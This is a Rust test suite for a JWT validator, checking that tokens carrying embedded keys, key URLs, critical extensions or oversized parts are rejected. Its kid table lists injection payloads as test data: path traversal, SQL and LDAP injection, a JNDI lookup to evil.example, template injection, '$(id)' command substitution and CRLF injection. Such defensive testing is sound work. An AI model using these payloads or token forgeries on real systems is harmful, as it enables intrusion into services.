//! What stands in the header beside `alg`: hints that are not followed, and conditions that are
//! not met (RFC 7515 §4, RFC 8725 §3.10 and §3.11).

use std::{
    net::TcpListener,
    sync::{Arc, Mutex},
};

use AuthErrorKind::{BadSignature, MalformedJwt, TokenTooLong, UnknownKey};
use portcullis::{
    Attempt, AuthError, AuthErrorKind,
    jwt::{Algorithm, FoundKeys, JwtValidator, Key as FoundKey, KeySource, StaticKeys},
};

use super::ledger::{self, Row};
use crate::support::{
    sign::{AUDIENCE, ISSUER, NOW, P256_1, P256_2, P256_3, RSA_1, RSA_2, encode, token},
    stand::{At, Attack, Stand, all_refused, stand},
};

chapter! {
    async fn keys_that_a_token_brings;
    async fn nothing_that_a_header_points_to_is_fetched;
    async fn kid_is_an_opaque_name;
    async fn a_token_without_kid_costs_a_bounded_number_of_checks;
    async fn one_kid_at_two_issuers;
    async fn critical_extensions;
    async fn oversized_and_empty_parts;
    async fn unknown_parameters_are_ignored;
    async fn the_octets_that_were_received_are_verified;
    async fn a_key_source_sees_two_header_parameters;
}

/// The token is signed by the key that it brings along, [`P256_3`] or [`RSA_2`].
const BROUGHT: &[Attack] = &[
    Attack {
        id: "KEY-01 7515-18",
        what: "jwk and no kid: the honest key is tried, and did not sign",
        token: || {
            token()
                .without_header("kid")
                .header("jwk", &P256_3.jwk("x", ""))
                .key(&P256_3, "ES256")
                .text()
        },
        reason: BadSignature,
    },
    Attack {
        id: "KEY-01 7515-18",
        what: "jwk and the kid of a real key",
        token: || token().header("jwk", &P256_3.jwk("p256-1", "")).key(&P256_3, "ES256").text(),
        reason: BadSignature,
    },
    Attack {
        id: "KEY-01 7515-18",
        what: "jwk and a kid of its own",
        token: || token().header("jwk", &P256_3.jwk("x", "")).by("x", &P256_3, "ES256").text(),
        reason: UnknownKey,
    },
    Attack {
        id: "KEY-04 7515-19",
        what: "x5c with a certificate of the signing key",
        token: || {
            use base64::{Engine as _, engine::general_purpose::STANDARD};
            let certificate =
                STANDARD.encode(include_bytes!("../../src/testing/keys/rsa-2.certificate.der"));
            token()
                .by("rsa-1", &RSA_2, "RS256")
                .header("x5c", &format!(r#"["{certificate}"]"#))
                .text()
        },
        reason: BadSignature,
    },
    Attack {
        id: "KEY-05",
        what: "x5t in place of a kid",
        token: || {
            token().by("x", &RSA_2, "RS256").header("x5t", r#""dGh1bWJwcmludC1vZi1zaGEx""#).text()
        },
        reason: UnknownKey,
    },
    Attack {
        id: "KEY-05",
        what: "x5t#S256 and the kid of a real key",
        token: || {
            token()
                .by("rsa-1", &RSA_2, "RS256")
                .header("x5t#S256", &format!(r#""{}""#, encode([7; 32])))
                .text()
        },
        reason: BadSignature,
    },
];

async fn keys_that_a_token_brings() {
    all_refused(&stand(), BROUGHT).await;
    // an honest token may bring what it likes
    let decorated =
        token().header("jwk", &P256_3.jwk("x", "")).header("x5c", "[1]").header("x5t", "{}");
    assert_eq!(stand().accepts(&decorated.text()).await.key_id(), Some("p256-1"));
}

/// The listener that the headers point to is never spoken to.
async fn nothing_that_a_header_points_to_is_fetched() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let place = listener.local_addr().unwrap();
    let stand = stand();
    for parameter in ["jku", "x5u"] {
        for url in [
            format!("http://{place}/keys"),
            format!("https://{place}/keys"),
            format!("ftp://{place}/keys"),
            "file:///etc/passwd".into(),
            "data:application/json,{}".into(),
        ] {
            let url = format!("{url:?}");
            let forged = token().header(parameter, &url).by("x", &P256_3, "ES256").text();
            stand.refuses(&forged, UnknownKey).await;
            let forged = token().header(parameter, &url).key(&P256_3, "ES256").text();
            stand.refuses(&forged, BadSignature).await;
            stand.accepts(&token().header(parameter, &url).text()).await;
        }
    }
    tokio::task::yield_now().await;
    assert_eq!(listener.accept().unwrap_err().kind(), std::io::ErrorKind::WouldBlock);
    ledger::passed("KEY-02 KEY-03 7515-17 7515-19 8725-16");
}

struct Kid {
    id: &'static str,
    /// Raw JSON.
    kid: &'static str,
    reason: AuthErrorKind,
}

impl Row for Kid {
    fn id(&self) -> &str {
        self.id
    }
}

const KIDS: &[Kid] = &[
    Kid { id: "KEY-06 8725-15", kid: r#""../../../../dev/null""#, reason: UnknownKey },
    Kid { id: "KEY-06", kid: r#""C:\\nul""#, reason: UnknownKey },
    Kid { id: "KEY-06", kid: r#""file:///etc/passwd""#, reason: UnknownKey },
    Kid { id: "KEY-07 8725-15", kid: r#""x' UNION SELECT 'k""#, reason: UnknownKey },
    Kid { id: "KEY-07 8725-15", kid: r#""' OR 1=1 --""#, reason: UnknownKey },
    Kid { id: "KEY-07", kid: r#""*)(cn=*""#, reason: UnknownKey },
    Kid { id: "KEY-07", kid: r#""${jndi:ldap://evil.example/a}""#, reason: UnknownKey },
    Kid { id: "KEY-07", kid: r#""{{7*7}}""#, reason: UnknownKey },
    Kid { id: "KEY-07", kid: r#""$(id)""#, reason: UnknownKey },
    Kid { id: "KEY-08", kid: "1", reason: MalformedJwt },
    Kid { id: "KEY-08", kid: r#"["p256-1"]"#, reason: MalformedJwt },
    Kid { id: "KEY-08", kid: r#"{"kid":"p256-1"}"#, reason: MalformedJwt },
    Kid { id: "KEY-08", kid: "null", reason: MalformedJwt },
    Kid { id: "KEY-08", kid: "true", reason: MalformedJwt },
    Kid { id: "KEY-08", kid: r#""""#, reason: UnknownKey },
    Kid { id: "KEY-08", kid: r#""p256-1\u0000""#, reason: UnknownKey },
    Kid { id: "KEY-08", kid: r#""a\r\nX: 1""#, reason: UnknownKey },
    Kid { id: "7515-20", kid: r#""P256-1""#, reason: UnknownKey },
    Kid { id: "7515-20", kid: r#"" p256-1""#, reason: UnknownKey },
    Kid { id: "7515-20", kid: r#""p256""#, reason: UnknownKey },
    Kid { id: "7515-20", kid: r#""p256-1/../p256-1""#, reason: UnknownKey },
];

async fn kid_is_an_opaque_name() {
    let stand = stand();
    ledger::table_async(KIDS, async |row| {
        let answer = stand.refuses(&token().header("kid", row.kid).text(), row.reason).await;
        assert!(!answer.detail.contains(['\r', '\n', '\0']), "{}", answer.detail);
    })
    .await;
    // a megabyte is too long for a token, 9 KiB for a header
    for (length, reason) in
        [(1 << 20, TokenTooLong), (64 << 10, TokenTooLong), (9 << 10, MalformedJwt)]
    {
        let long = token().header("kid", &format!(r#""{}""#, "k".repeat(length))).text();
        let answer = stand.refuses(&long, reason).await;
        assert_eq!(answer.lookups, 0);
        assert!(answer.detail.len() < 200);
    }
    // the longest that fits is a name that nobody has, and is not told at length
    let long = token().header("kid", &format!(r#""{}""#, "k".repeat(6 << 10))).text();
    assert!(stand.refuses(&long, UnknownKey).await.detail.len() < 200);
    ledger::passed("KEY-08 7515-20 8725-15");
}

/// With none, one, two or fifty keys that fit.
async fn a_token_without_kid_costs_a_bounded_number_of_checks() {
    let nameless = token().without_header("kid");
    let jwks = |count: usize| -> Vec<String> {
        let others = (0..count.saturating_sub(1)).map(|i| P256_2.jwk(&format!("k{i}"), ""));
        let own = (count > 0).then(|| P256_1.jwk("own", ""));
        others.chain(own).chain([RSA_1.jwk("rsa-1", "")]).collect()
    };
    for (count, tries, accepted) in [
        (0, 1, false),
        (1, 1, true),
        (2, 1, false),
        (50, 1, false),
        (2, 2, true),
        (4, 4, true),
        (5, 4, false),
        (50, 4, false),
    ] {
        let set = format!(r#"{{"keys":[{}]}}"#, jwks(count).join(","));
        let keys = StaticKeys::from_jwk_set(set.as_bytes()).unwrap();
        let stand = Stand::new(keys.try_keys_without_kid(tries).unwrap(), |builder| builder);
        if accepted {
            assert_eq!(stand.accepts(&nameless.text()).await.key_id(), Some("own"));
            // a key that is not among them is still none
            stand.refuses(&nameless.clone().key(&P256_3, "ES256").text(), BadSignature).await;
        } else {
            stand.refuses(&nameless.text(), UnknownKey).await;
        }
    }
    for tries in [0, 5, usize::MAX] {
        let keys =
            StaticKeys::from_jwk_set(format!(r#"{{"keys":[{}]}}"#, P256_1.jwk("a", "")).as_bytes());
        assert!(keys.unwrap().try_keys_without_kid(tries).is_err());
    }
    ledger::passed("KEY-09 7517-10");
}

/// Two issuers, the same kid, different keys; and two tenants of one key set.
async fn one_kid_at_two_issuers() {
    let validator = |issuer: &str, jwk: String, algorithms: &[Algorithm]| {
        let set = format!(r#"{{"keys":[{jwk}]}}"#);
        JwtValidator::builder(StaticKeys::from_jwk_set(set.as_bytes()).unwrap())
            .issuer(issuer)
            .audience(AUDIENCE)
            .algorithms(algorithms.iter().copied())
            .clock(Arc::new(At::new(NOW)))
            .build()
            .unwrap()
    };
    let other = r#""https://other.example""#;
    let stand = Stand::of(
        JwtValidator::several([
            validator(ISSUER, P256_1.jwk("k", ""), &[Algorithm::ES256]),
            validator("https://other.example", P256_2.jwk("k", ""), &[Algorithm::ES256]),
            validator("https://rsa.example", RSA_1.jwk("k", ""), &[Algorithm::RS256]),
        ])
        .unwrap(),
    );
    let own = stand.accepts(&token().by("k", &P256_1, "ES256").text()).await;
    let others = stand.accepts(&token().claim("iss", other).by("k", &P256_2, "ES256").text()).await;
    assert_eq!((own.issuer(), others.issuer()), (ISSUER, "https://other.example"));
    // the same sub at two issuers is two people
    assert_eq!((own.subject(), own == others), (others.subject(), false));
    stand.refuses(&token().by("k", &P256_2, "ES256").text(), BadSignature).await;
    stand
        .refuses(&token().claim("iss", other).by("k", &P256_1, "ES256").text(), BadSignature)
        .await;
    let stranger = token().claim("iss", r#""https://evil.example""#).by("k", &P256_1, "ES256");
    stand.refuses(&stranger.text(), AuthErrorKind::WrongIssuer).await;
    // what one issuer allows says nothing about another
    let crossed = token().claim("iss", r#""https://rsa.example""#).by("k", &P256_1, "ES256");
    stand.refuses(&crossed.text(), AuthErrorKind::UnsupportedAlgorithm).await;
    let rsa = token().claim("iss", r#""https://rsa.example""#).by("k", &RSA_1, "RS256");
    stand.accepts(&rsa.text()).await;
    ledger::passed("KEY-10 8725-03 8725-12 CLM-22");

    let [one, two] = ["https://idp.example/one", "https://idp.example/two"];
    let tenant = |issuer| Stand::of(validator(issuer, P256_1.jwk("k", ""), &[Algorithm::ES256]));
    let of = |issuer: &str| {
        token().claim("iss", &format!("{issuer:?}")).by("k", &P256_1, "ES256").text()
    };
    for (stand, own, foreign) in [(tenant(one), one, two), (tenant(two), two, one)] {
        stand.accepts(&of(own)).await;
        stand.refuses(&of(foreign), AuthErrorKind::WrongIssuer).await;
    }
    ledger::passed("KEY-11 CLM-14");
}

/// Raw JSON of `crit`, each honestly signed.
struct Crit(&'static str, &'static str);

impl Row for Crit {
    fn id(&self) -> &str {
        self.0
    }
}

const CRITICAL: &[Crit] = &[
    Crit("KEY-17 7515-13 7519-05", r#"["unknown"]"#),
    Crit("KEY-17 7515-13", r#"["exp"]"#),
    Crit("KEY-17 7515-14", "[]"),
    Crit("KEY-17 7515-14", r#"["unknown","unknown"]"#),
    Crit("KEY-17 7515-14", r#"["alg"]"#),
    Crit("KEY-17 7515-14", r#"["kid","typ"]"#),
    Crit("KEY-17 7515-14", r#"["absent"]"#),
    Crit("KEY-17 7515-14", r#""unknown""#),
    Crit("KEY-17 7515-14", "null"),
    Crit("KEY-17 7515-14", "{}"),
    Crit("KEY-17 7515-14", "[1]"),
    Crit("KEY-17 7515-14", "false"),
    Crit("KEY-18 7515-15", r#"["b64"]"#),
];

async fn critical_extensions() {
    let stand = stand();
    ledger::table_async(CRITICAL, async |row| {
        let plain = token().header("unknown", "1").header("exp", "1").header("crit", row.1);
        stand.refuses(&plain.text(), MalformedJwt).await;
        let b64 = plain.header("b64", "false");
        stand.refuses(&b64.text(), MalformedJwt).await;
        // RFC 7797 §3: the payload as it is, with a signature over exactly that
        let payload = b64.payload_bytes();
        let signed = [encode(b64.header_bytes()).as_bytes(), b".", &payload].concat();
        let detached =
            format!("{}..{}", encode(b64.header_bytes()), encode(P256_1.sign("ES256", &signed)));
        stand.refuses(&detached, MalformedJwt).await;
    })
    .await;
    // without crit b64 means nothing: the payload is base64url, and a raw one is not read
    let b64 = token().header("b64", "false");
    let signed = format!("{}.e30", encode(b64.header_bytes()));
    let raw = format!("{signed}.{}", encode(P256_1.sign("ES256", signed.as_bytes())));
    stand.refuses(&raw, AuthErrorKind::MissingClaim).await;
}

const OVERSIZED: &[Attack] = &[
    Attack {
        id: "KEY-21",
        what: "cty says that a token is inside",
        token: || token().header("cty", r#""JWT""#).text(),
        reason: MalformedJwt,
    },
    Attack {
        id: "KEY-21",
        what: "cty in small letters and with its prefix",
        token: || token().header("cty", r#""application/jwt""#).text(),
        reason: MalformedJwt,
    },
    Attack {
        id: "KEY-22",
        what: "a header of 1 MiB",
        token: || token().header("x", &format!(r#""{}""#, "x".repeat(1 << 20))).text(),
        reason: TokenTooLong,
    },
    Attack {
        id: "KEY-22",
        what: "a header of 9 KiB",
        token: || token().header("x", &format!(r#""{}""#, "x".repeat(9 << 10))).text(),
        reason: MalformedJwt,
    },
    Attack {
        id: "KEY-22",
        what: "a header with 100 000 members",
        token: || {
            let members: Vec<String> = (0..100_000).map(|i| format!(r#""{i}":0"#)).collect();
            token().raw_header(format!(r#"{{"alg":"ES256",{}}}"#, members.join(","))).text()
        },
        reason: TokenTooLong,
    },
    Attack {
        id: "KEY-23",
        what: "a detached payload",
        token: || format!("{}..{}", encode(token().header_bytes()), encode(token().signature())),
        reason: MalformedJwt,
    },
    Attack {
        id: "KEY-23",
        what: "an empty payload, honestly signed",
        token: || token().payload("").text(),
        reason: MalformedJwt,
    },
];

async fn oversized_and_empty_parts() {
    all_refused(&stand(), OVERSIZED).await;
}

async fn unknown_parameters_are_ignored() {
    let stand = stand();
    for (name, value) in [
        ("unknown", "1"),
        ("zip", r#""DEF""#),
        ("enc", r#""A256GCM""#),
        ("cty", r#""json""#),
        ("Crit", r#"["x"]"#),
        ("url", r#""https://evil.example""#),
        ("nonce", "[[]]"),
    ] {
        stand.accepts(&token().header(name, value).text()).await;
    }
    ledger::passed("7515-16");
}

/// The same header and claims in another spelling are other octets.
async fn the_octets_that_were_received_are_verified() {
    let stand = stand();
    let spaced = r#"{ "typ" : "at+jwt", "kid" : "p256-1",  "alg" : "ES256" }"#;
    stand.accepts(&token().raw_header(spaced).text()).await;
    stand
        .accepts(
            &token()
                .raw_header(r#"{"alg":"ES256","kid":"p256-\u0031","typ":"at\u002bjwt"}"#)
                .text(),
        )
        .await;
    stand
        .refuses(&token().raw_header(spaced).with_signature(token().signature()), BadSignature)
        .await;
    ledger::passed("7515-22");
}

/// A source cannot be led by claims that nobody has proven: it never sees one.
async fn a_key_source_sees_two_header_parameters() {
    #[derive(Debug)]
    struct Listening(FoundKey, Arc<Mutex<Vec<(Option<String>, Algorithm)>>>);

    impl KeySource for Listening {
        fn find(&self, kid: Option<&str>, alg: Algorithm) -> Attempt<Result<FoundKeys, AuthError>> {
            self.1.lock().unwrap().push((kid.map(str::to_owned), alg));
            Attempt::ready(Ok(FoundKeys::One(self.0.clone())))
        }
    }

    let heard = Arc::new(Mutex::new(Vec::new()));
    let jwk = portcullis::jwt::Jwk::parse(P256_1.jwk("p256-1", "").as_bytes()).unwrap();
    let stand = Stand::new(Listening(FoundKey::new(jwk), heard.clone()), |builder| builder);
    stand.accepts(&token().text()).await;
    stand
        .refuses(&token().header("kid", r#""other""#).key(&P256_2, "ES256").text(), BadSignature)
        .await;
    // a source that answers with a key of another kind is not believed
    stand
        .refuses(&token().by("r", &RSA_1, "RS256").text(), AuthErrorKind::UnsupportedAlgorithm)
        .await;
    let heard = heard.lock().unwrap();
    let seen: Vec<(Option<&str>, Algorithm)> =
        heard.iter().map(|(kid, alg)| (kid.as_deref(), *alg)).collect();
    let (es, rs) = (Algorithm::ES256, Algorithm::RS256);
    let expected = [Some("p256-1"), Some("other"), Some("other")].map(|kid| (kid, es));
    assert_eq!(seen, [&expected[..], &[(Some("r"), rs), (Some("r"), rs)]].concat());
    ledger::passed("KEY-24 7515-25");
}
